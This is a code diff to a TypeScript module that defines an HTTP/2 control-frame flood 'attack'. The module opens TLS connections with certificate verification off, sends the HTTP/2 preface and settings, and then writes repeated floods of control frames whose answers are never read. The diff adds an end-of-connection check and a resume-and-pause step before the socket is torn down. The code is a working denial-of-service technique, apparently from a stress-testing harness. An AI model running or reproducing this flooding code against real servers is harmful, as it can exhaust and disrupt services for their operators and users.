@@ -1,5 +1,5 @@
 import { connect } from 'node:tls'
-import type { Attack } from '../attack.ts'
+import { type Attack, expectEnd } from '../attack.ts'
 
 function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
   const head = Buffer.alloc(9)
@@ -25,11 +25,13 @@ const floods: readonly Buffer[] = [
 /** Floods of control frames over HTTP/2, of which the answers are not read. */
 export const attack: Attack = {
   name: 'HTTP/2 frames',
-  async round({ host, port, pause }) {
+  async round(target) {
+    const { host, port, pause } = target
     for (const flood of floods) {
       const socket = connect({ host, port, rejectUnauthorized: false, ALPNProtocols: ['h2'] })
       socket.on('error', () => undefined)
       await new Promise((resolve) => socket.once('secureConnect', resolve).once('close', resolve))
+      expectEnd(target, socket)
       socket.pause()
       socket.write(`PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`)
       socket.write(frame(settings, 0, 0, Buffer.alloc(0)))
@@ -40,6 +42,8 @@ export const attack: Attack = {
         socket.write(many)
         await pause(20)
       }
+      socket.resume()
+      await pause(200)
       socket.destroy()
     }
   },
